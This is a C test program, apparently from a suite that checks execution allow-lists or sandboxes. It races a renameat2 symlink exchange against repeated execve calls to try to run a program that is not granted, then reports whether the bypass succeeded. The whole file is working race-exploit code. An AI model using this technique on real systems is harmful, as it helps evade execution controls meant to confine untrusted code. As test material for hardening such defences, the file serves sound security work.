// Exchanges a symbolic link under the name of a program while it is executed.

#include "attack.h"

static const char *name, *other;
static atomic_bool stop;

static void *exchanging(void *unused) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
  return unused;
}

int main(void) {
  name = WORK("program");
  other = WORK("other");
  if (symlink("/bin/true", name) || symlink(target("ATTACK_PROGRAM"), other)) refused("symlink");
  pthread_t thread;
  if (pthread_create(&thread, 0, exchanging, 0)) broken("pthread_create");
  int ran = 0, status;
  for (int index = 0; index < TRIES; index++) {
    pid_t child = vfork();
    if (child < 0) refused("vfork");
    if (child == 0) {
      char *arguments[] = {"x", 0}, *environment[] = {0};
      execve(name, arguments, environment);
      _exit(126);
    }
    if (waitpid(child, &status, 0) != child || !WIFEXITED(status)) continue;
    if (WEXITSTATUS(status) == UNGRANTED_STATUS) won("a program ran that is not granted, after %d tries", index + 1);
    ran += WEXITSTATUS(status) == 0;
  }
  stop = true;
  blocked("0 of %d execs ran it; %d ran the granted one", TRIES, ran);
}
